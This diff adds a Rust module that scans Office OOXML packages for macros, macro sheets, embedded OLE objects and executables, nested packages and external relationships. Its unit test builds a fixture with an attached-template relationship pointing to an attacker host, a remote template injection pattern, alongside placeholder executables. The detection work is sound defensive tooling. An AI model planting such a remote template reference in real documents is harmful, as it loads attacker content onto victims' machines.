@@ -0,0 +1,165 @@
+// SPDX-License-Identifier: AGPL-3.0-only
+//! OOXML packages: VBA projects, macro sheets, embedded objects and
+//! external relationships
+
+use prism_core::metadata::{ActiveContent, ActiveContentKind};
+use quick_xml::events::Event;
+use quick_xml::Reader;
+use std::io::{Cursor, Read};
+use std::path::Path;
+use zip::ZipArchive;
+
+use super::{is_executable, ole, OLE_MAGIC};
+use crate::office::utils::attr_value_opt;
+
+/// Embedded packages scanned inside a package, e.g. a macro-enabled
+/// workbook embedded in a document
+const MAX_NESTING: usize = 2;
+
+/// Active content of an OOXML package
+pub fn scan(data: &[u8]) -> Vec<ActiveContent> {
+    scan_package(data, "", 0)
+}
+
+fn scan_package(data: &[u8], container: &str, depth: usize) -> Vec<ActiveContent> {
+    let Ok(mut archive) = ZipArchive::new(Cursor::new(data)) else {
+        return Vec::new();
+    };
+    let location = |name: &str| {
+        if container.is_empty() {
+            name.to_string()
+        } else {
+            format!("{container}:{name}")
+        }
+    };
+
+    let mut names: Vec<String> = archive.file_names().map(str::to_string).collect();
+    names.sort();
+    let mut found = Vec::new();
+    for name in names {
+        let lower = name.to_ascii_lowercase();
+        if lower.ends_with("vbaproject.bin") {
+            found.push(ActiveContent::new(
+                ActiveContentKind::Macro,
+                location(&name),
+            ));
+        } else if lower.starts_with("xl/macrosheets/") && has_extension(&name, "xml") {
+            found.push(
+                ActiveContent::new(ActiveContentKind::Macro, location(&name))
+                    .with_detail("Excel 4.0 macro sheet"),
+            );
+        } else if lower.contains("/embeddings/") {
+            let Some(content) = read(&mut archive, &name) else {
+                continue;
+            };
+            if content.starts_with(OLE_MAGIC) {
+                found.extend(ole::scan(&content, &location(&name)));
+            } else if content.starts_with(b"PK\x03\x04") && depth < MAX_NESTING {
+                found.extend(scan_package(&content, &location(&name), depth + 1));
+            } else if is_executable(&name, &content) {
+                found.push(ActiveContent::new(
+                    ActiveContentKind::EmbeddedExecutable,
+                    location(&name),
+                ));
+            }
+        } else if has_extension(&name, "rels") {
+            let Some(xml) = read(&mut archive, &name).and_then(|xml| String::from_utf8(xml).ok())
+            else {
+                continue;
+            };
+            found.extend(external_references(&xml).into_iter().map(|target| {
+                ActiveContent::new(ActiveContentKind::ExternalReference, location(&name))
+                    .with_detail(target)
+            }));
+        }
+    }
+    found
+}
+
+fn has_extension(name: &str, extension: &str) -> bool {
+    Path::new(name)
+        .extension()
+        .is_some_and(|ext| ext.eq_ignore_ascii_case(extension))
+}
+
+fn read(archive: &mut ZipArchive<Cursor<&[u8]>>, name: &str) -> Option<Vec<u8>> {
+    let mut file = archive.by_name(name).ok()?;
+    let mut data = Vec::new();
+    file.read_to_end(&mut data).ok()?;
+    Some(data)
+}
+
+/// Targets of the external relationships in a relationships part, other
+/// than hyperlinks
+fn external_references(xml: &str) -> Vec<String> {
+    let mut reader = Reader::from_str(xml);
+    let mut targets = Vec::new();
+    loop {
+        match reader.read_event() {
+            Ok(Event::Empty(e) | Event::Start(e)) if e.local_name().as_ref() == b"Relationship" => {
+                let external = attr_value_opt(&e, b"TargetMode").as_deref() == Some("External");
+                let hyperlink =
+                    attr_value_opt(&e, b"Type").is_some_and(|kind| kind.ends_with("/hyperlink"));
+                if let Some(target) =
+                    attr_value_opt(&e, b"Target").filter(|_| external && !hyperlink)
+                {
+                    targets.push(target);
+                }
+            }
+            Ok(Event::Eof) | Err(_) => break,
+            _ => {}
+        }
+    }
+    targets
+}
+
+#[cfg(test)]
+mod tests {
+    use super::super::ole::tests::compound_file;
+    use super::*;
+    use std::io::Write;
+    use zip::write::FileOptions;
+    use zip::ZipWriter;
+
+    fn package(entries: &[(&str, &[u8])]) -> Vec<u8> {
+        let mut writer = ZipWriter::new(Cursor::new(Vec::new()));
+        for (name, content) in entries {
+            writer.start_file(*name, FileOptions::default()).unwrap();
+            writer.write_all(content).unwrap();
+        }
+        writer.finish().unwrap().into_inner()
+    }
+
+    #[test]
+    fn test_ooxml_scan() {
+        let rels = br#"<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
+<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://attacker.example/template.dotm" TargetMode="External"/>
+<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://example.com/" TargetMode="External"/>
+<Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target="styles.xml"/>
+</Relationships>"#;
+        let embedded = package(&[("xl/vbaProject.bin", b"")]);
+        let data = package(&[
+            ("word/document.xml", b"<w:document/>"),
+            ("word/vbaProject.bin", b"\xD0\xCF"),
+            ("word/_rels/settings.xml.rels", rels),
+            ("word/embeddings/oleObject1.bin", &compound_file()),
+            ("word/embeddings/Workbook1.xlsm", &embedded),
+            ("word/embeddings/tool.exe", b"MZ"),
+        ]);
+
+        let found = scan(&data);
+        let summary: Vec<_> = found.iter().map(ToString::to_string).collect();
+        assert_eq!(
+            summary,
+            [
+                "external reference in word/_rels/settings.xml.rels (https://attacker.example/template.dotm)",
+                "macro in word/embeddings/Workbook1.xlsm:xl/vbaProject.bin",
+                "macro in word/embeddings/oleObject1.bin:/Macros",
+                "embedded executable in word/embeddings/oleObject1.bin:/ObjectPool/\\u0001Ole10Native (invoice.exe)",
+                "embedded executable in word/embeddings/tool.exe",
+                "macro in word/vbaProject.bin",
+            ]
+        );
+        assert!(scan(&package(&[("word/document.xml", b"<w:document/>")])).is_empty());
+    }
+}